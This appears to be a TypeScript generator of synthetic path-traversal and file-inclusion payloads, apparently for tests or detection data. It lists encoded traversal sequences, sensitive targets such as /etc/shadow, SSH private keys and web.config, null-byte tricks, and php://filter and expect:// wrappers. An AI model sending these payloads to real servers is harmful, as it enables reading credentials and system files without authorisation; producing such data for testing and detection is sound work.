import type { Random } from '../../stats/random.ts'
import { word } from './encode.ts'

const steps = [
  '../',
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%252f',
  '%252e%252e%252f',
  '..\\',
  '..%5c',
  '....//',
  '..;/',
  '%c0%ae%c0%ae/',
  '..%c0%af',
  '..%u2215',
  '.%2e/',
]
const unix = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'proc/self/environ',
  'proc/version',
  'root/.ssh/id_rsa',
  'var/log/auth.log',
  'etc/nginx/nginx.conf',
  'home/deploy/.bash_history',
  'var/www/html/config.php',
]
const windows = [
  'windows/win.ini',
  'boot.ini',
  'windows/system32/drivers/etc/hosts',
  'inetpub/wwwroot/web.config',
]

/** One way out of the served folder: the value of a parameter, or the rest of a path. */
export function traversalPayload(random: Random): string {
  const step = random.pick(steps)
  const isWindows = step.includes('\\') || step.includes('5c') || random.chance(0.12)
  let file = random.pick(isWindows ? windows : unix)
  if (isWindows && random.chance(0.5)) file = file.replaceAll('/', '%5c')
  else if (step.endsWith('%2f') && random.chance(0.7)) file = file.replaceAll('/', '%2f')
  const start = random.chance(0.2) ? `${word(random, 4)}/` : random.chance(0.15) ? '/' : ''
  const end = random.pick(['', '', '', '%00', '%00.png', '%23'])
  return `${start}${step.repeat(2 + random.below(9))}${file}${end}`
}

/** A wrapper or address that includes a file: the value of a parameter. */
export function inclusionPayload(random: Random): string {
  return random.pick([
    `php://filter/convert.base64-encode/resource=${random.pick(['index', 'config', 'login'])}.php`,
    `file:///${random.pick(unix)}`,
    `/${random.pick(unix)}`,
    `expect://${random.pick(['id', 'whoami'])}`,
  ])
}
